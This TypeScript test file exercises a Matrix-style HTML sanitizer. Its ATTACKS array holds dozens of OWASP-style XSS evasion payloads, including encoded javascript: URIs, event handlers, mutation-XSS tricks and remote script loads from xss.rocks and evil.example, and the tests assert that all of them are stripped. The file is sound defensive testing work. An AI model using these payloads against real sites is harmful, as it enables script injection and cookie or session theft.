import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { sanitizeHtml } from "../../../src/formatting/index.js";

/** OWASP XSS filter evasion style inputs (and a few Matrix-specific ones). */
const ATTACKS = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  `<a href="jav	ascript:alert('XSS');">tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">newline</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">leading</a>`,
  `<a href="javascript&colon;alert(1)">colon entity</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EMBED>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<img src="http://evil.example/track.png">`,
  `<img src="mxc://evil.example/a b" onerror=x>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<!-- --!><script>alert(1)</script> -->`,
  `<font color="red;background:url(javascript:alert(1))" data-mx-color="#ff0000" style="x">c</font>`,
  `<code class="language-js onmouseover=alert(1)">c</code><code class="x language-js">d</code>`,
  `<a href="https://ok.example" target="_top" rel="opener">t</a>`,
  `<span data-mx-spoiler="<script>alert(1)</script>" onclick="x">s</span>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a href="https://ok.example"/onclick=alert(1)>slash</a>`,
  `<img/src="mxc://e.org/x"/onerror=alert(1)>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<mx-reply><blockquote><a href="javascript:alert(1)">in reply</a></blockquote></mx-reply>reply`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
  `<a href="https://ok.example" HREF="javascript:alert(1)">dup</a>`,
  `<a href='javascript:alert(1)'>single</a><a href=\`javascript:alert(1)\`>tick</a>`,
];

const ALLOWED_TAGS =
  "font|del|h[1-6]|blockquote|p|a|ul|ol|sup|sub|li|b|i|u|strong|em|strike|s|code|hr|br|div|table|thead|tbody|tr|th|td|caption|pre|span|img|details|summary";
const TAG = new RegExp(`^<(?:/(?:${ALLOWED_TAGS})|(?:${ALLOWED_TAGS})(?: [a-z-]+="[^"<>]*")*)>$`);
const ATTRS: Record<string, string[]> = {
  font: ["data-mx-bg-color", "data-mx-color", "color"],
  span: ["data-mx-bg-color", "data-mx-color", "data-mx-spoiler", "data-mx-maths"],
  a: ["href", "target"],
  img: ["width", "height", "alt", "title", "src"],
  ol: ["start"],
  code: ["class"],
  div: ["data-mx-maths"],
};

const decode = (v: string) =>
  v.replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d))).replace(/&amp;/g, "&");

/** Fails unless every tag in `html` is allowed with allowed attributes and safe URLs. */
function assertSafe(html: string, input: string) {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    assert.match(tag, TAG, `tag ${tag} from ${input}`);
    const name = /^<\/?([a-z0-9]+)/.exec(tag)![1]!;
    for (const [, attr, raw] of tag.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      assert.ok((ATTRS[name] ?? []).includes(attr!), `attribute ${attr} on ${name} from ${input}`);
      const value = decode(raw!);
      if (attr === "href") assert.match(value, /^(https?|ftp|mailto|magnet):[^\s]*$/i, input);
      if (attr === "src") assert.match(value, /^mxc:\/\/[^\s]+$/, input);
      if (attr === "target") assert.equal(value, "_blank");
    }
  }
  assert.doesNotMatch(html, /javascript:|vbscript:|data:text/i, input);
  assert.doesNotMatch(html, /<\/?(script|style|iframe|svg|math|object|embed|meta|body|input|textarea|form)/i);
  assert.equal(sanitizeHtml(html), html, `sanitising twice changes nothing: ${input}`);
}

describe("sanitizeHtml", () => {
  it(`lets nothing dangerous through (${ATTACKS.length} attack strings)`, () => {
    assert.ok(ATTACKS.length >= 30);
    for (const input of ATTACKS) assertSafe(sanitizeHtml(input), input);
  });

  it("drops script, style and iframe with their content; keeps the text of unknown tags", () => {
    assert.equal(sanitizeHtml("a<script>alert(1)</script>b"), "ab");
    assert.equal(sanitizeHtml("a<style>p{}</style>b<iframe>x</iframe>c"), "abc");
    assert.equal(sanitizeHtml("<blink>hi</blink> <custom-el x=1>there</custom-el>"), "hi there");
    assert.equal(sanitizeHtml("<svg><g>x</g></svg>after"), "after");
    assert.equal(sanitizeHtml("<mx-reply><blockquote>old</blockquote></mx-reply>new"), "new");
    assert.equal(sanitizeHtml("<script>never closed <b>x</b>"), "");
  });

  it("keeps allowed tags and attributes, and checks their values", () => {
    const ok =
      '<p><a href="https://e.org/?a=1&amp;b=2" target="_blank">l</a> <img src="mxc://e.org/abc_1" alt="cat" width="10">' +
      '<font data-mx-color="#00ff00">g</font> <span data-mx-spoiler="why">s</span> <code class="language-rust">x</code>' +
      '<ol start="3"><li>three</li></ol><a href="mailto:a@e.org">m</a><a href="magnet:?xt=urn:btih:abc">t</a></p>';
    assert.equal(sanitizeHtml(ok), ok.replace("&amp;", "&#38;"));
    assert.equal(sanitizeHtml('<IMG SRC="https://e.org/x.png" ALT="a">'), "");
    assert.equal(
      sanitizeHtml('<B>x</B><br/><A HREF="https://e.org" TARGET=_blank>y</A>'),
      '<b>x</b><br><a href="https://e.org" target="_blank">y</a>',
    );
    assert.equal(sanitizeHtml('<a href="/relative">r</a><a href="matrix:u/a:b">m</a>'), "<a>r</a><a>m</a>");
    assert.equal(
      sanitizeHtml('<font color="red">c</font><ol start="-1"><li>x</li></ol>'),
      "<font>c</font><ol><li>x</li></ol>",
    );
  });

  it("balances tags: unclosed ones closed, stray end tags dropped, misnested ones closed in order", () => {
    assert.equal(sanitizeHtml("<b>bold <i>both"), "<b>bold <i>both</i></b>");
    assert.equal(sanitizeHtml("</b>x</p>"), "x");
    assert.equal(sanitizeHtml("<b><i>x</b>y</i>"), "<b><i>x</i></b>y");
    assert.equal(sanitizeHtml("a < b && c > d"), "a &lt; b &amp;&amp; c &gt; d");
    assert.equal(sanitizeHtml("<b>cut <a href="), "<b>cut </b>");
  });

  it("decodes entities once and escapes them again", () => {
    assert.equal(
      sanitizeHtml("&lt;b&gt; &amp;amp; &#x41;&#66;&copy; &bogus;"),
      "&lt;b&gt; &amp;amp; AB© &amp;bogus;",
    );
    assert.equal(sanitizeHtml("&#0;&#xD800;&#99999999;"), "\ufffd\ufffd\ufffd");
  });

  it("bounds nesting depth and input size", () => {
    const deep = "<b>".repeat(10_000) + "x" + "</b>".repeat(10_000) + "<i>after</i>";
    const out = sanitizeHtml(deep);
    assert.equal(out, "<b>".repeat(100) + "x" + "</b>".repeat(100) + "<i>after</i>");
    assert.equal(sanitizeHtml("<b>x</b>".repeat(10), { maxDepth: 0 }), "x".repeat(10));
    const huge = "<b>a</b>".repeat(200_000);
    const started = Date.now();
    const cut = sanitizeHtml(huge);
    assert.ok(cut.length <= 100_000, `output ${cut.length}`);
    assert.ok(Date.now() - started < 2000);
    assert.equal(sanitizeHtml("abcdef", { maxLength: 3 }), "abc");
  });

  it("is linear on pathological input", () => {
    const started = Date.now();
    sanitizeHtml("<a ".repeat(30_000));
    sanitizeHtml("<!--".repeat(30_000));
    sanitizeHtml("<script>".repeat(10_000));
    sanitizeHtml("<a href='".repeat(30_000));
    sanitizeHtml("&#".repeat(50_000));
    assert.ok(Date.now() - started < 3000, `${Date.now() - started} ms`);
  });
});
